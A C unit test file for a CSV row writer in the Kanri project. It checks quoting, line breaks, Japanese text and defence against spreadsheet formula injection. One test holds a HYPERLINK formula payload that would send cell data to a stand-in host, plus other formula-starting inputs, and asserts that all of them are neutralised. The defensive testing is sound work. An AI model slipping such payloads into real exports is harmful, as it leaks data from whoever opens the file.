/* test-csv.c
 *
 * Copyright 2026 The Kanri authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include "kanri-csv.h"

static char *
row (const char *const *fields,
     gsize              n)
{
  GString *out = g_string_new (NULL);

  kanri_csv_append_row (out, fields, n);
  return g_string_free (out, FALSE);
}

static void
test_plain_fields (void)
{
  const char *fields[] = { "DisplayName", "Admin,Delegate,Owner", "90.00:00:00" };
  g_autofree char *line = row (fields, G_N_ELEMENTS (fields));

  g_assert_cmpstr (line, ==, "DisplayName,\"Admin,Delegate,Owner\",90.00:00:00\r\n");
}

static void
test_quotes_and_breaks (void)
{
  const char *fields[] = { "say \"hi\"", "two\nlines", "cr\rhere", " padded " };
  g_autofree char *line = row (fields, G_N_ELEMENTS (fields));

  g_assert_cmpstr (line, ==, "\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\",\" padded \"\r\n");
}

static void
test_empty_and_null (void)
{
  const char *fields[] = { "", NULL, "x" };
  g_autofree char *line = row (fields, G_N_ELEMENTS (fields));

  g_assert_cmpstr (line, ==, ",,x\r\n");
}

static void
test_japanese_untouched (void)
{
  const char *fields[] = { "山田, 太郎", "営業部" };
  g_autofree char *line = row (fields, G_N_ELEMENTS (fields));

  g_assert_cmpstr (line, ==, "\"山田, 太郎\",営業部\r\n");
  g_assert_cmpstr (KANRI_CSV_UTF8_BOM, ==, "\xEF\xBB\xBF");
}

static void
test_formula_guarded (void)
{
  const char *fields[] = {
    "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1)",
    "\tTab", "\rCR",
  };
  g_autofree char *line = row (fields, G_N_ELEMENTS (fields));

  g_assert_cmpstr (line, ==,
                   "\"'=HYPERLINK(\"\"https://example.com/?\"\"&A1,\"\"x\"\")\","
                   "\"'+1+2\",\"'-2+3\",\"'@SUM(A1)\",\"'\tTab\",\"'\rCR\"\r\n");
}

static void
test_numbers_stay_numbers (void)
{
  const char *fields[] = { "-1", "+5", "-0.25", "user@contoso.com", "a=b", "-", "-.5" };
  g_autofree char *line = row (fields, G_N_ELEMENTS (fields));

  /* "-" alone and "-.5" are not the plain numbers this writer knows: guarded. */
  g_assert_cmpstr (line, ==, "-1,+5,-0.25,user@contoso.com,a=b,\"'-\",\"'-.5\"\r\n");
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/plain", test_plain_fields);
  g_test_add_func ("/csv/quotes-and-breaks", test_quotes_and_breaks);
  g_test_add_func ("/csv/empty-and-null", test_empty_and_null);
  g_test_add_func ("/csv/japanese", test_japanese_untouched);
  g_test_add_func ("/csv/formula-guarded", test_formula_guarded);
  g_test_add_func ("/csv/numbers-stay-numbers", test_numbers_stay_numbers);

  return g_test_run ();
}
